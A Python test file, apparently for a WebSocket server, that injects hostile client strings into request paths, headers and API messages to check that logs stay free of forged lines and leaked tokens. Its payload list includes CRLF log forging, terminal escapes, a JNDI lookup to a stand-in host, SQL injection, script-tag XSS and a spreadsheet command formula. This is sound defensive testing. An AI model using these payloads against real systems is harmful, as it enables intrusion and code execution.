"""T27: text of clients in logs, headers and pages."""

import json

from http_api import KEY
from peers import CLOSE, TEXT, RawPeer, close_payload, handshake_request

SECRET = "eyJhbGciOiJIUzI1NiJ9.c2VjcmV0.c2lnbmF0dXJl"
TEXTS = [
    "\r\n2026-01-01T00:00:00 [wsserver#info] a forged line",
    '\n{"level": "info", "message": "forged"}',
    "\r",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b[2J\x1b[H",
    "\u2028forged",
    "\u2029forged",
    "\x85forged",
    "\x0bforged",
    "\x0cforged",
    "\x00forged",
    "\x7f\x08\x08\x08forged",
    "\u202egnirts",
    "%0d%0aforged",
    "\\r\\nforged",
    "{log_source} {0} {}",
    "%s%n%x",
    "${jndi:ldap://evil.example/a}",
    "'; DROP TABLE x; --",
    "\"quoted\" 'quoted'",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "\ud7ff\ue000",
    "😀" * 10,
    "a" * 100,
    ' status=200 reason="forged"',
    "\tforged\tcolumns",
    "=cmd|' /C calc'!A0",
]


def raw(text):
    """Return a text as the bytes of a header."""
    return text.encode().decode("latin-1")


def inject(server, text):
    """Send a text wherever a client can: in the path, in headers, as the reason of a close, to the API and so on."""
    quoted = "".join(f"%{byte:02x}" for byte in text.encode())
    requests = [
        handshake_request(f"/{quoted}", f"Authorization: Bearer {SECRET}"),
        handshake_request(f"/ws?channel={quoted}&token={SECRET}"),
        handshake_request("/echo", f"Origin: {raw(text)}"),
        handshake_request("/echo", f"Sec-WebSocket-Protocol: {raw(text)}", f"Cookie: token={SECRET}"),
        handshake_request("/echo", f"User-Agent: {raw(text)}", replace={"Sec-WebSocket-Key": raw(text)}),
        handshake_request("/echo", replace={"Host": raw(text)}),
        f"GET /{raw(text)}?token={SECRET} HTTP/1.1\r\nHost: a\r\n\r\n".encode("latin-1"),
        f"{raw(text)} / HTTP/1.1\r\nHost: a\r\n\r\n".encode("latin-1"),
    ]
    for request in requests:
        with RawPeer(server.port) as peer:
            peer.send(request)
            peer.socket.shutdown(1)
            try:
                answer = peer.read_to_end()
            except ConnectionResetError:
                continue
            head = answer.partition(b"\r\n\r\n")[0]
            assert b"forged" not in head.replace(b"Sec-WebSocket-Protocol", b""), (text, head)
            assert b"\x1b" not in head
    with server.open() as peer:
        peer.send_frame(CLOSE, close_payload(1000, text.encode()[:80].decode("utf-8", "ignore")))
        peer.read_to_end()
    with server.connect() as peer:
        body = json.dumps({"channel": text, "data": text}).encode()
        peer.request("/api/publish", f"X-API-Key: {KEY}", method="POST", body=body)
    with server.open("/connection/websocket") as peer:
        peer.send_frame(TEXT, json.dumps({"id": 1, "connect": {"name": text, "token": SECRET}}).encode())
        peer.read_frame()


def test_t27_logs_have_one_line_for_each_event(start_server, figures):
    """Text of clients never starts a line of the log, in both formats; no log has a secret."""
    events = {}
    for form in ("text", "json"):
        server = start_server("--log-format", form, "--log-max-rate", "0")
        for text in TEXTS:
            inject(server, text)
        server.stop()
        lines = server.log().split("\n")
        printable = [line for line in lines if not line.isprintable()]
        figures.at_most(0, len(printable), f"lines with control characters, {form}", "", printable[:3])
        figures.at_most(0, sum(SECRET[:20] in line for line in lines), f"lines with a secret, {form}")
        events[form] = len([line for line in lines if line])
        if form == "json":
            assert all(isinstance(json.loads(line), dict) for line in lines if line)
        else:
            forged = [line for line in lines if line and not line.startswith("20")]
            figures.at_most(0, len(forged), "lines without a time", "", forged[:3])
    figures.at_least(30, len(TEXTS), "texts")
    figures.at_most(3, abs(events["text"] - events["json"]), "difference of the lines of both formats", "", events)
